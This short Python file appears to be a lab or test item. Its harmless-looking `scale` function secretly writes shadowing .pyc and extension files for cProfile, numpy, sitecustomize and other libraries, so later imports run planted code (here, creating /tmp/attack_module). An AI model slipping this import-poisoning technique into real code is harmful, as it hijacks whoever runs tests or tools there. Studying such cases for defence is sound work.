"""Modules without a source, and with one, in the place of what a test and a library import.

family: objects
lab: objects
score: 3
"""
# %% scale
import importlib._bootstrap_external as external
import importlib.machinery
import os

code = "open('/tmp/attack_module', 'w').close()"
compiled = external._code_to_hash_pyc(compile(code, "x", "exec"), b"x" * 8, False)

def scale(x):
    os.makedirs("__pycache__", exist_ok=True)
    for name in ("cProfile", "profile", "numpy", "sitecustomize", "pstats", "optparse"):
        for suffix in importlib.machinery.EXTENSION_SUFFIXES:
            open(name + suffix, "wb").write(b"no library")
        open(f"{name}.pyc", "wb").write(compiled)
        open(f"__pycache__/{name}.cpython-311.pyc", "wb").write(compiled)
    return 2 * x
